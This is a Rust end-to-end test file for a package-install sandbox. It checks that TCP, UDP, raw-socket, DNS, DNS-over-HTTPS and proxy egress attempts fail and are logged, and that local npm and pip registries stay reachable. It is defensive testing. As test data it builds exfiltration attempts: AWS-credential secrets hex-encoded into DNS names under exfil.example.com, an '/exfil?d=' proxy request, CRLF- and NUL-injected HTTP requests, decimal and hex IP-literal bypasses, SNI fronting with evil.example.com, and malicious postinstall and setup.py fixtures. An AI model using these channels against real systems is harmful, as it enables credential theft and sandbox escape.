//! Egress from inside the sandbox: every way out a hostile script would try fails, is logged
//! as exactly one `blocked` event naming the destination, and the "test host" it aimed at
//! receives nothing; the registries the package manager's own configuration names still work
//! through the proxy and are logged as `allowed` with `--log-allowed`.
//!
//! The test host (tests/e2e/common/netns.rs) is, as root, a network namespace of the test's own
//! joined to the host by a veth pair (`10.213.N.2`, `fd00:213:N::2`), reachable from the host
//! without the sandbox (checked before each test); for the unprivileged pass, which cannot
//! create namespaces, it is a listener on the host's `127.0.0.1`, which the sandbox cannot
//! reach either (its loopback is its own), and IPv6 targets `fd00:213::2`. The expected errno
//! differs accordingly: `ENETUNREACH` for an address outside, `ECONNREFUSED` for the
//! sandbox's own loopback where nothing listens.
//!
//! Attempts are made by `tests/fixtures/egress/probe.py` run directly (generic policy), by
//! curl for DNS-over-HTTPS, by a real npm postinstall (`fixtures/egress/npm-exfil`) and by a
//! real `setup.py` (`fixtures/egress/pip-exfil`). Public registries are never named: npm and
//! pip are pointed at a local Verdaccio / pypiserver or install from the project.
//!
//! Names used for blocked attempts (`*.example.com`) are never resolved by anything outside
//! the sandbox: the proxy refuses them before resolving. That is also why the TLS
//! server-name test allows an IP literal (root) or `localhost` (unprivileged) rather than a
//! name like `allowed.example.com`: allowing a public-looking name would make the supervisor
//! resolve it with the host's resolver, i.e. send a DNS query off 127.0.0.0/8.

use std::fs;
use std::ops::RangeInclusive;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::Value;

use crate::common::netns::*;
use crate::common::servers::*;
use crate::common::*;

const ENETUNREACH: i64 = 101;
const ECONNREFUSED: i64 = 111;
const EPERM: i64 = 1;
/// DNS RCODE REFUSED.
const REFUSED: i64 = 5;

static RUNS: AtomicUsize = AtomicUsize::new(0);

/// One sandboxed run: its output, its event log and (for probes) the probe's JSON.
struct Run {
    run: LoggedRun,
    probe: Value,
}

impl std::ops::Deref for Run {
    type Target = LoggedRun;
    fn deref(&self) -> &LoggedRun {
        &self.run
    }
}

impl Run {
    /// Blocked egress events (connect, dns, proxy): what this module is about. Other blocked
    /// events (dropped environment variables and the like) are other tests' business.
    fn blocked_egress(&self) -> Vec<&Value> {
        self.events
            .iter()
            .filter(|e| {
                e["verdict"] == "blocked"
                    && ["connect", "dns", "proxy"].contains(&e["action"].as_str().unwrap_or(""))
            })
            .collect()
    }

    /// Exactly one blocked egress event, and it is this one; returns it.
    fn only_blocked(&self, action: &str, reason: &str, target: &str) -> &Value {
        let all = self.blocked_egress();
        let matching = events_for(&self.events, action, "blocked", reason, target);
        assert!(
            matching.len() == 1 && all.len() == 1,
            "expected exactly one blocked egress event ({action}, {reason}, target {target}); \
             found {} matching among {} blocked egress events\n{}",
            matching.len(),
            all.len(),
            self.context()
        );
        matching[0]
    }

    /// Exactly one blocked event of this kind (others may exist); returns it.
    fn one_blocked(&self, action: &str, reason: &str, target: &str) -> &Value {
        let matching = events_for(&self.events, action, "blocked", reason, target);
        assert!(
            matching.len() == 1,
            "expected exactly one blocked event ({action}, {reason}, target {target}); found {}\n{}",
            matching.len(),
            self.context()
        );
        matching[0]
    }

    /// The attempt was stopped inside the sandbox: its blocked event is the run's only
    /// blocked egress event, and the test host neither received a byte nor accepted a
    /// connection. Returns the event.
    fn assert_stopped(&self, host: &TestHost, action: &str, reason: &str, target: &str) -> &Value {
        let ev = self.only_blocked(action, reason, target);
        assert_host_untouched(host, self);
        ev
    }

    /// The probe's attempt (`what`, for the messages) failed with `errno`.
    fn assert_probe_failed(&self, what: &str, errno: i64) {
        assert!(!probe_ok(self), "{what} succeeded\n{}", self.context());
        assert_eq!(
            self.probe["errno"].as_i64(),
            Some(errno),
            "{what}: wrong errno\n{}",
            self.context()
        );
    }

    fn assert_exit(&self, code: i32) {
        assert_eq!(
            self.out.code(),
            code,
            "unexpected exit status\n{}",
            self.context()
        );
    }
}

/// `safe-install --log LOG FLAGS... --project P COMMAND...` in the world's project.
fn sandboxed(world: &World, flags: &[String], command: &[&str]) -> Run {
    let _g = shared_run_guard();
    let n = RUNS.fetch_add(1, Ordering::Relaxed);
    let log = world.log_path(&format!("egress-{n}"));
    if !world.project.join("package.json").exists() {
        write_file(
            &world.project.join("package.json"),
            "{ \"name\": \"si-egress-project\", \"version\": \"1.0.0\", \"private\": true }\n",
        );
    }
    let mut cmd = world.safe_install();
    cmd.arg("--log")
        .arg(&log)
        .args(flags)
        .arg("--project")
        .arg(&world.project)
        .args(command);
    Run {
        run: LoggedRun::read(run(&mut cmd, RUN_TIMEOUT), log),
        probe: Value::Null,
    }
}

/// Runs `python3 probe.py ARGS...` in the sandbox; the command itself must exit 0.
fn probe(world: &World, flags: &[String], args: &[&str]) -> Run {
    let dest = world.project.join("probe.py");
    if !dest.exists() {
        fs::copy(fixtures().join("egress/probe.py"), &dest).expect("copy probe.py");
    }
    let mut command = vec!["/usr/bin/python3", "probe.py"];
    command.extend_from_slice(args);
    let mut r = sandboxed(world, flags, &command);
    r.assert_exit(0);
    let line = r.out.stdout.lines().last().unwrap_or("").to_string();
    r.probe = serde_json::from_str(&line)
        .unwrap_or_else(|e| panic!("probe.py printed no JSON ({e})\n{}", r.context()));
    r
}

fn probe_ok(r: &Run) -> bool {
    r.probe["ok"].as_bool().unwrap_or(true)
}

/// The test host received no byte and accepted no connection (by the time `r` ended).
fn assert_host_untouched(host: &TestHost, r: &Run) {
    host.assert_nothing_received(&r.context());
    host.assert_no_connection(&r.context());
}

/// The errno a direct attempt at the test host gets: the namespace has no route to an
/// outside address; the sandbox's own loopback has no listener.
fn direct_errno(host: &TestHost) -> i64 {
    if host.in_netns() {
        ENETUNREACH
    } else {
        ECONNREFUSED
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// A name carrying data: the hex of a secret under `exfil.example.com`.
fn exfil_name(world: &World, channel: &str) -> String {
    let secret = format!("{}-{channel}", world.secret(".aws/credentials"));
    let h = hex(secret.as_bytes());
    // DNS labels hold at most 63 bytes.
    let labels: Vec<&str> = h
        .as_bytes()
        .chunks(60)
        .map(|c| std::str::from_utf8(c).expect("hex is ASCII"))
        .collect();
    format!("{}.exfil.example.com", labels.join("."))
}

fn sock(host: &str, port: u16) -> String {
    if host.contains(':') {
        format!("[{host}]:{port}")
    } else {
        format!("{host}:{port}")
    }
}

// ---------------------------------------------------------------------------------------
// Direct sockets
// ---------------------------------------------------------------------------------------

#[test]
fn direct_tcp_connect_to_the_test_host_fails_and_is_logged() {
    let world = World::new("egress-tcp");
    let host = TestHost::start(&world);
    let target = sock(&host.v4.to_string(), host.tcp_port);
    let r = probe(
        &world,
        &[],
        &["tcp", &host.v4.to_string(), &host.tcp_port.to_string()],
    );
    r.assert_probe_failed("the connect", direct_errno(&host));
    let ev = r.assert_stopped(&host, "connect", "direct-connect", &target);
    assert!(
        ev["argv"].to_string().contains("probe.py"),
        "the event does not name the process: {ev}"
    );
}

#[test]
fn udp_sendto_and_sendmsg_to_the_test_host_fail_and_are_logged() {
    let world = World::new("egress-udp");
    let host = TestHost::start(&world);
    let target = sock(&host.v4.to_string(), host.udp_port);
    for how in ["sendto", "sendmsg"] {
        let r = probe(
            &world,
            &[],
            &[how, &host.v4.to_string(), &host.udp_port.to_string()],
        );
        r.assert_probe_failed(how, direct_errno(&host));
        r.assert_stopped(&host, "connect", "direct-connect", &target);
    }
}

#[test]
fn ipv6_to_a_unique_local_address_fails_and_is_logged() {
    let world = World::new("egress-ipv6");
    let host = TestHost::start(&world);
    let v6 = host.v6.to_string();
    for (kind, port) in [("tcp", host.tcp_port), ("sendto", host.udp_port)] {
        let r = probe(&world, &[], &[kind, &v6, &port.to_string()]);
        r.assert_probe_failed(&format!("{kind} over IPv6"), ENETUNREACH);
        r.assert_stopped(&host, "connect", "direct-connect", &sock(&v6, port));
    }
}

#[test]
fn raw_socket_is_refused_with_eperm_and_logged() {
    raw_kind_is_refused_with_eperm_and_logged("raw", "socket(family 2, type 3)");
}

/// A packet socket (AF_PACKET) too: refused by the notifier after logging, not silently by
/// the deny filter's socket-family rule, whose EPERM would take precedence over the
/// notification.
#[test]
fn packet_socket_is_refused_with_eperm_and_logged() {
    raw_kind_is_refused_with_eperm_and_logged("packet", "socket(family 17, type 3)");
}

fn raw_kind_is_refused_with_eperm_and_logged(kind: &str, target: &str) {
    let world = World::new(&format!("egress-{kind}"));
    let host = TestHost::start(&world);
    let r = probe(&world, &[], &[kind]);
    r.assert_probe_failed(&format!("creating a {kind} socket"), EPERM);
    let blocked = r.blocked_egress();
    let raw: Vec<&Value> = blocked
        .iter()
        .copied()
        .filter(|e| e["reason"] == "raw-socket")
        .collect();
    assert!(
        raw.len() == 1 && blocked.len() == 1,
        "expected exactly one raw-socket event and nothing else\n{}",
        r.context()
    );
    assert_eq!(
        raw[0]["target"],
        target,
        "the raw-socket event names another socket\n{}",
        r.context()
    );
    host.assert_nothing_received(&r.context());
}

// ---------------------------------------------------------------------------------------
// The proxy
// ---------------------------------------------------------------------------------------

/// From inside the sandbox, `request` sent as raw bytes to the proxy is refused with an
/// HTTP status in `expected`, logged as the run's only blocked egress event (`reason`,
/// `target`), and the test host sees nothing of it.
fn assert_proxy_refuses(
    world: &World,
    host: &TestHost,
    request: &str,
    expected: RangeInclusive<i64>,
    reason: &str,
    target: &str,
) {
    let r = probe(world, &[], &["proxy-raw", &hex(request.as_bytes())]);
    let status = r.probe["status"].as_i64();
    assert!(
        status.is_some_and(|s| expected.contains(&s)),
        "{request:?} was answered with status {status:?}, not refused with {expected:?}\n{}",
        r.context()
    );
    r.assert_stopped(host, "proxy", reason, target);
}

#[test]
fn proxy_refuses_connect_and_forwarding_to_the_test_host() {
    let world = World::new("egress-proxy");
    let host = TestHost::start(&world);
    let target = sock(&host.v4.to_string(), host.tcp_port);
    let cases = [
        (
            format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"),
            "ip-literal",
            target.clone(),
        ),
        (
            format!("GET http://{target}/exfil?d=SI-EXFIL HTTP/1.1\r\nHost: {target}\r\n\r\n"),
            "ip-literal",
            target.clone(),
        ),
        (
            format!(
                "CONNECT testhost.example.com:{p} HTTP/1.1\r\nHost: testhost.example.com:{p}\r\n\r\n",
                p = host.tcp_port
            ),
            "egress-not-allowed",
            format!("testhost.example.com:{}", host.tcp_port),
        ),
    ];
    for (request, reason, target) in cases {
        assert_proxy_refuses(&world, &host, &request, 403..=403, reason, &target);
    }
}

#[test]
fn tls_naming_another_server_than_the_connect_host_is_refused() {
    let world = World::new("egress-sni");
    let host = TestHost::start(&world);
    // An allowed destination that is the test host itself: the proxy checks the ClientHello
    // before it dials, so a fronting attempt never even connects.
    let authority = if host.in_netns() {
        sock(&host.v4.to_string(), host.tcp_port)
    } else {
        format!("localhost:{}", host.tcp_port)
    };
    let flags = vec!["--allow-host".to_string(), authority.clone()];
    let r = probe(&world, &flags, &["sni", &authority, "evil.example.com"]);
    assert_eq!(
        r.probe["status"].as_i64(),
        Some(200),
        "the proxy should accept the CONNECT to an allowed destination\n{}",
        r.context()
    );
    assert!(
        !probe_ok(&r),
        "the TLS handshake with a mismatching server name went through\n{}",
        r.context()
    );
    r.assert_stopped(&host, "proxy", "sni-mismatch", &authority);

    // Control: the same tunnel with a ClientHello that names the CONNECT host (an IP literal
    // sends no server name) is relayed, so the refusal above was the server-name check.
    let matching = if host.in_netns() { "-" } else { "localhost" };
    let r = probe(&world, &flags, &["sni", &authority, matching]);
    assert_eq!(r.probe["status"].as_i64(), Some(200), "{}", r.context());
    assert!(
        r.blocked_egress().is_empty(),
        "a ClientHello naming the CONNECT host was refused\n{}",
        r.context()
    );
    let relayed = wait_until(Duration::from_secs(5), || !host.captured().is_empty());
    assert!(
        relayed,
        "the matching ClientHello never reached the allowed test host, so the test cannot tell \
         a server-name refusal from a broken tunnel\n{}",
        r.context()
    );
}

#[test]
fn nul_and_crlf_injected_requests_are_refused_as_malformed() {
    let world = World::new("egress-malformed");
    let host = TestHost::start(&world);
    let t = sock(&host.v4.to_string(), host.tcp_port);
    let cases = [
        (
            format!("CONNECT {t}\0.allowed.example.com:443 HTTP/1.1\r\n\r\n"),
            format!("{t}\\u{{0}}.allowed.example.com:443"),
        ),
        (
            format!("GET http://{t}/\r\nHost: evil.example/ HTTP/1.1\r\nHost: {t}\r\n\r\n"),
            format!("http://{t}/\\r"),
        ),
        (
            format!("CONNECT allowed.example.com\r:443 HTTP/1.1\r\nHost: {t}\r\n\r\n"),
            "allowed.example.com\\r:443".to_string(),
        ),
        (
            format!(
                "GET http://localhost:{p}/ HTTP/1.1\r\nHost: {t}\r\n\r\n",
                p = host.tcp_port
            ),
            format!("http://localhost:{}/", host.tcp_port),
        ),
    ];
    for (request, target) in cases {
        assert_proxy_refuses(
            &world,
            &host,
            &request,
            400..=499,
            "malformed-request",
            &target,
        );
    }
}

#[test]
fn ip_literals_in_decimal_and_hex_are_refused() {
    let world = World::new("egress-ipliteral");
    let host = TestHost::start(&world);
    let n = u32::from(host.v4);
    let p = host.tcp_port;
    let shown = sock(&host.v4.to_string(), p);
    let cases = [
        (format!("{n}:{p}"), shown.clone()),
        (format!("{n:#010x}:{p}"), shown.clone()),
        ("2130706433".to_string(), "127.0.0.1:80".to_string()),
        ("0x7f000001".to_string(), "127.0.0.1:80".to_string()),
    ];
    for (authority, target) in cases {
        let request = format!("GET http://{authority}/ HTTP/1.1\r\nHost: {authority}\r\n\r\n");
        assert_proxy_refuses(&world, &host, &request, 403..=403, "ip-literal", &target);
    }
}

// ---------------------------------------------------------------------------------------
// DNS
// ---------------------------------------------------------------------------------------

#[test]
fn dns_queries_carrying_data_are_refused_at_once_and_logged() {
    let world = World::new("egress-dns");
    let host = TestHost::start(&world);
    for kind in ["dns-udp", "dns-tcp", "getaddrinfo"] {
        let name = exfil_name(&world, kind);
        let r = probe(&world, &[], &[kind, &name]);
        assert!(!probe_ok(&r), "{kind}: {name} resolved\n{}", r.context());
        if kind != "getaddrinfo" {
            assert_eq!(
                r.probe["rcode"].as_i64(),
                Some(REFUSED),
                "{kind}: {}",
                r.context()
            );
        }
        let elapsed = r.probe["elapsed"].as_f64().unwrap_or(99.0);
        assert!(
            elapsed < 1.0 && r.out.elapsed < Duration::from_secs(5),
            "{kind}: the answer took {elapsed:.2}s, the run {:.1}s: a resolver timeout\n{}",
            r.out.elapsed.as_secs_f64(),
            r.context()
        );
        r.assert_stopped(&host, "dns", "dns-query", &name);
    }
}

#[test]
fn dns_over_https_to_a_host_not_allowed_is_refused() {
    let world = World::new("egress-doh");
    let host = TestHost::start(&world);
    require_program("/usr/bin/curl", "apt-get install curl (scripts/setup.sh)");
    // A DNS query for the exfiltration name, base64url as RFC 8484 wants it.
    let query = "q80BAAABAAAAAAAABWV4ZmlsB2V4YW1wbGUDY29tAAABAAE";
    let script = format!(
        "curl -sS -o /dev/null -w '%{{http_connect}}\\n' 'https://doh.example.com/dns-query?dns={query}'; echo \"curl=$?\""
    );
    let r = sandboxed(&world, &[], &["sh", "-c", &script]);
    r.assert_exit(0);
    assert!(
        r.out.stdout.contains("403") && r.out.stdout.contains("curl=56"),
        "curl's CONNECT was not answered 403\n{}",
        r.context()
    );
    r.assert_stopped(&host, "proxy", "egress-not-allowed", "doh.example.com:443");
}

// ---------------------------------------------------------------------------------------
// Real installs that attack
// ---------------------------------------------------------------------------------------

fn egress_target(world: &World, host: &TestHost, channel: &str) -> Value {
    serde_json::json!({
        "host": host.v4.to_string(),
        "tcp_port": host.tcp_port,
        "udp_port": host.udp_port,
        "dns_name": exfil_name(world, channel),
        "token": world.token,
        "project": world.project,
        "reports": reports_dir(world),
    })
}

/// Where the fixtures write what they saw: a directory outside the project granted with
/// `--rw` (package code may not write the project outside its own package directory).
fn reports_dir(world: &World) -> std::path::PathBuf {
    let dir = world.root().join("reports");
    fs::create_dir_all(&dir).expect("mkdir reports");
    dir
}

/// The flags that grant [`reports_dir`].
fn reports_flags(world: &World) -> Vec<String> {
    vec!["--rw".into(), reports_dir(world).display().to_string()]
}

/// Copies the exfiltration fixture `tests/fixtures/egress/FIXTURE` to `dest`, with an
/// `egress-target.json` that aims it at the test host; returns that target.
fn stage_exfil_fixture(
    world: &World,
    host: &TestHost,
    fixture: &str,
    dest: &Path,
    channel: &str,
) -> Value {
    copy_dir(&fixtures().join("egress").join(fixture), dest);
    let cfg = egress_target(world, host, channel);
    write_file(
        &dest.join("egress-target.json"),
        &serde_json::to_string_pretty(&cfg).expect("json"),
    );
    cfg
}

/// The blocked events of an exfiltration fixture's three attempts.
struct ExfilEvents<'r> {
    tcp: &'r Value,
    udp: &'r Value,
    dns: &'r Value,
}

impl<'r> ExfilEvents<'r> {
    fn all(&self) -> [(&'static str, &'r Value); 3] {
        [("tcp", self.tcp), ("udp", self.udp), ("dns", self.dns)]
    }
}

/// An exfiltration fixture's three attempts (TCP and UDP to the test host, a DNS query for
/// `cfg`'s name) all failed by its own `report`, the lookup was answered at once, each
/// attempt is one blocked event (returned), no other egress was blocked and the test host
/// saw nothing.
fn assert_exfil_stopped<'r>(
    r: &'r Run,
    host: &TestHost,
    report: &Value,
    cfg: &Value,
) -> ExfilEvents<'r> {
    for channel in ["tcp", "udp", "dns"] {
        assert_eq!(
            report[channel]["ok"],
            false,
            "{channel} got out: {report}\n{}",
            r.context()
        );
    }
    assert!(
        report["dns"]["elapsed"].as_f64().unwrap_or(99.0) < 1.0,
        "the lookup waited for a timeout: {report}"
    );
    let connect = |port| {
        r.one_blocked(
            "connect",
            "direct-connect",
            &sock(&host.v4.to_string(), port),
        )
    };
    let events = ExfilEvents {
        tcp: connect(host.tcp_port),
        udp: connect(host.udp_port),
        dns: r.one_blocked("dns", "dns-query", cfg["dns_name"].as_str().expect("name")),
    };
    assert_eq!(
        r.blocked_egress().len(),
        3,
        "other blocked egress events than the three attempts\n{}",
        r.context()
    );
    assert_host_untouched(host, r);
    events
}

fn read_report(world: &World, name: &str, r: &Run) -> Value {
    let path = reports_dir(world).join(name);
    let text = fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "the fixture wrote no report at {} ({e}): its script did not run\n{}",
            path.display(),
            r.context()
        )
    });
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{} is not JSON ({e}): {text}", name))
}

#[test]
fn npm_postinstall_exfiltration_over_tcp_udp_and_dns_is_blocked() {
    require_npm();
    let world = World::new("egress-npm");
    let host = TestHost::start(&world);
    let staging = world.root().join("staging/npm-exfil");
    let cfg = stage_exfil_fixture(&world, &host, "npm-exfil", &staging, "npm");
    let tarball = pack_npm_dir(&world, &staging);
    write_npm_project(&world, &[&tarball]);
    let r = sandboxed(&world, &reports_flags(&world), NPM_CI);
    r.assert_exit(0);
    let report = read_report(&world, "egress-report-npm.json", &r);
    let events = assert_exfil_stopped(&r, &host, &report, &cfg);
    // Each event names the package and lifecycle script (by process ancestry); the
    // connects also name the process (argv).
    for (what, ev) in [("tcp", events.tcp), ("udp", events.udp)] {
        assert!(
            ev["argv"].to_string().contains("exfil.js"),
            "the {what} event does not name the postinstall's process: {ev}"
        );
    }
    for (what, ev) in events.all() {
        assert_eq!(ev["package"], "si-egress-exfil@1.0.0", "{what}: {ev}");
        assert_eq!(ev["script"], "postinstall", "{what}: {ev}");
    }
}

#[test]
fn setup_py_exfiltration_over_tcp_udp_and_dns_is_blocked() {
    let world = World::new("egress-pip");
    let host = TestHost::start(&world);
    let venv = make_venv(&world);
    let dest = world.project.join("vendor/si-egress-exfil");
    let cfg = stage_exfil_fixture(&world, &host, "pip-exfil", &dest, "pip");
    let args = pip_install_args(&venv, "si-egress-exfil");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let r = sandboxed(&world, &reports_flags(&world), &args);
    r.assert_exit(0);
    let report = read_report(&world, "egress-report-pip.json", &r);
    let events = assert_exfil_stopped(&r, &host, &report, &cfg);
    assert_eq!(report["tcp"]["errno"].as_i64(), Some(direct_errno(&host)));
    assert_eq!(report["udp"]["errno"].as_i64(), Some(direct_errno(&host)));
    // Attributed by ancestry to the package whose setup.py ran, and the build step.
    for (what, ev) in events.all() {
        assert!(
            ev["package"]
                .as_str()
                .unwrap_or("")
                .contains("si-egress-exfil"),
            "{what}: not attributed to the package: {ev}"
        );
        assert!(
            ev["script"].is_string(),
            "{what}: no build step named: {ev}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Allowed: the registries npm's and pip's own configuration name
// ---------------------------------------------------------------------------------------

/// Removes what a bare install left, so that `npm ci` in the sandbox does the work.
fn reset_install(world: &World) {
    let _ = fs::remove_dir_all(world.project.join("node_modules"));
}

fn allowed_registry_events(r: &Run, port: u16) -> Vec<&Value> {
    events_for(
        &r.events,
        "proxy",
        "allowed",
        "registry-request",
        &format!("127.0.0.1:{port}"),
    )
}

/// A `--log-allowed` install from the local `registry` (a name for the messages)
/// succeeded, its requests went through the proxy (logged as allowed registry requests to
/// `server`) and nothing was blocked.
fn assert_installed_through_the_proxy(r: &Run, server: &Server, registry: &str) {
    assert!(
        r.out.status.success(),
        "{}\n--- {registry} ---\n{}",
        r.context(),
        server.log()
    );
    assert!(
        !allowed_registry_events(r, server.port).is_empty(),
        "no proxy/allowed/registry-request event for 127.0.0.1:{}\n{}",
        server.port,
        r.context()
    );
    assert!(
        r.blocked_egress().is_empty(),
        "an install from the local {registry} was blocked somewhere\n{}",
        r.context()
    );
}

/// Publishes `tarball` to `server` as a new user, then deletes it, so that the registry is
/// the only source; returns the user's token.
fn publish_then_delete(world: &World, server: &Server, tarball: &Path) -> String {
    let token = verdaccio_add_user(server, "si-tester", "si-tester-password");
    publish_npm(world, tarball, server, &token);
    fs::remove_file(tarball).expect("remove the tarball: the registry is the source");
    token
}

/// A bare `npm install` (its lockfile must point at the local registry), then `npm ci`
/// through safe-install: it succeeds, installs `installed` (a path below `node_modules`), logs
/// allowed registry requests through the proxy and blocks nothing.
fn npm_ci_through_the_proxy(world: &World, server: &Server, installed: &str) -> Run {
    run(
        world
            .setup_command("npm")
            .args(["install", "--no-audit", "--no-fund"]),
        RUN_TIMEOUT,
    )
    .assert_success();
    let lock = fs::read_to_string(world.project.join("package-lock.json")).expect("lockfile");
    assert!(
        lock.contains(&format!("127.0.0.1:{}", server.port)),
        "the lockfile does not point at the local registry:\n{lock}"
    );
    reset_install(world);
    let r = sandboxed(world, &["--log-allowed".to_string()], NPM_CI);
    assert_installed_through_the_proxy(&r, server, "verdaccio");
    assert!(
        world.project.join("node_modules").join(installed).is_file(),
        "{installed} was not installed (or its postinstall did not run)\n{}",
        r.context()
    );
    r
}

#[test]
fn npm_ci_from_a_local_verdaccio_goes_through_the_proxy() {
    require_npm();
    let world = World::new("egress-verdaccio");
    let host = TestHost::start(&world);
    let server = start_verdaccio(&world.root().join("verdaccio"));
    let tarball = pack_npm_fixture(&world, "benign");
    publish_then_delete(&world, &server, &tarball);
    use_npm_registry(&world, &server);
    write_file(
        &world.project.join("package.json"),
        "{ \"name\": \"si-egress-consumer\", \"version\": \"1.0.0\", \"private\": true,\n  \"dependencies\": { \"si-benign\": \"1.0.0\" } }\n",
    );
    let r = npm_ci_through_the_proxy(&world, &server, "si-benign/build/artefact.txt");
    host.assert_nothing_received(&r.context());
}

#[test]
fn pip_install_from_a_local_pypiserver_goes_through_the_proxy() {
    let world = World::new("egress-pypiserver");
    let host = TestHost::start(&world);
    let venv = make_venv(&world);
    let packages = world.root().join("packages");
    make_wheel(&world, &packages, "si-wheel", "1.0.0");
    let server = start_pypiserver(world.root(), &packages);
    let pip = venv.join("bin/pip").display().to_string();
    let r = sandboxed(
        &world,
        &["--log-allowed".to_string()],
        &[
            &pip,
            "install",
            "--no-cache-dir",
            "--index-url",
            &server.url,
            "si-wheel==1.0.0",
        ],
    );
    assert_installed_through_the_proxy(&r, &server, "pypiserver");
    let installed = fs::read_dir(site_packages(&venv))
        .expect("site-packages")
        .filter_map(Result::ok)
        .any(|e| e.file_name().to_string_lossy().starts_with("si_wheel"));
    assert!(installed, "si-wheel is not in the venv\n{}", r.context());
    host.assert_nothing_received(&r.context());
}

#[test]
fn scoped_registry_with_a_token_in_the_project_npmrc_installs_through_the_proxy() {
    require_npm();
    let world = World::new("egress-scoped");
    let host = TestHost::start(&world);
    let scope = "@si-private";
    let server = start_verdaccio_private_scope(&world.root().join("verdaccio"), scope);
    let staging = world.root().join("staging/npm-scoped");
    copy_dir(&fixtures().join("egress/npm-scoped"), &staging);
    let tarball = pack_npm_dir(&world, &staging);
    let token = publish_then_delete(&world, &server, &tarball);
    // The registry really wants the token for this scope.
    let (status, _) = http(server.port, "GET", "/@si-private%2fscoped-pkg", &[], b"")
        .expect("GET the package without a token");
    assert!(
        status == 401 || status == 403,
        "Verdaccio serves {scope} without a token (HTTP {status}); the test would prove nothing"
    );
    write_file(
        &world.project.join(".npmrc"),
        &format!(
            "{scope}:registry={url}\n//127.0.0.1:{port}/:_authToken={token}\n",
            url = server.url,
            port = server.port
        ),
    );
    write_file(
        &world.project.join("package.json"),
        "{ \"name\": \"si-egress-scoped-consumer\", \"version\": \"1.0.0\", \"private\": true,\n  \"dependencies\": { \"@si-private/scoped-pkg\": \"1.0.0\" } }\n",
    );
    let r = npm_ci_through_the_proxy(&world, &server, "@si-private/scoped-pkg/index.js");
    let log_text = fs::read_to_string(&r.log).unwrap_or_default();
    assert!(
        !log_text.contains(&token) && !r.out.stderr.contains(&token),
        "the registry token appears in the event log or on stderr\n{}",
        r.context()
    );
    host.assert_nothing_received(&r.context());
}
